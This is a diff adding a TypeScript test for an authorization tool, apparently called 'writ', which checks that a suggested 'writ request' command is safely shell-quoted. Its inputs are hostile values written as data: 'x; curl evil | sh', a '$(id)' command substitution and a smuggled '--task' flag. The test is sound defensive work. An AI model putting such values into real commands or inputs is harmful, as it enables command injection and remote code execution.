@@ -174,6 +174,44 @@ describe('writ why', () => {
     )
   })
 
+  test('B24 a command that is copied does nothing else, whatever was tried', () => {
+    const tried = (name: string, id: string, under: string): Members => ({
+      subject: { type: 'Agent', id: 'triage' },
+      action: { name },
+      resource: { type: 'Account', id },
+      context: {},
+      task: under,
+    })
+    const asked = (attempt: Members): string =>
+      describeDecision(entry({ attempt }), undefined).find((line) => line.includes('writ request')) ?? ''
+    assert.match(
+      asked(tried('refund:all', '7/a b', 'task_88')),
+      /writ request refund:all --on 'Account\/7\/a b' --task task_88/,
+    )
+    assert.match(
+      asked(tried('x; curl evil | sh', '$(id)`id`', "t' --task 'u")),
+      /writ request 'x; curl evil \| sh' --on 'Account\/\$\(id\)`id`' --task 't'\\'' --task '\\''u'$/,
+    )
+    assert.match(asked(tried('--all', '7', '-x')), /writ request … --on Account\/7 --task …$/)
+    const wanted = describeDecision(
+      entry({ outcome: 'deny', alternatives: [], attempt: { ...tried('a&b', '#7', 'x'), task: undefined } }),
+      explained({
+        nearest: [
+          rule([
+            clause('context.live has task', 'fails', {
+              actual: [{ path: 'context.live.task' }],
+              required: { path: 'context.live.task', operator: 'has' },
+            }),
+          ]),
+        ],
+      }),
+    )
+    assert.ok(
+      wanted.some((line) => line.includes("--action 'a&b' --on 'Account/#7' --reason")),
+      wanted.join('\n'),
+    )
+  })
+
   test('B24 nothing that others wrote moves the cursor, and lines fit where they can', () => {
     const long = clause(`context.note == "${'word '.repeat(60)}\u001B[2J"`, 'fails', {
       actual: [{ path: 'context.note', value: `\u001B[31m${'x'.repeat(500)}` }],
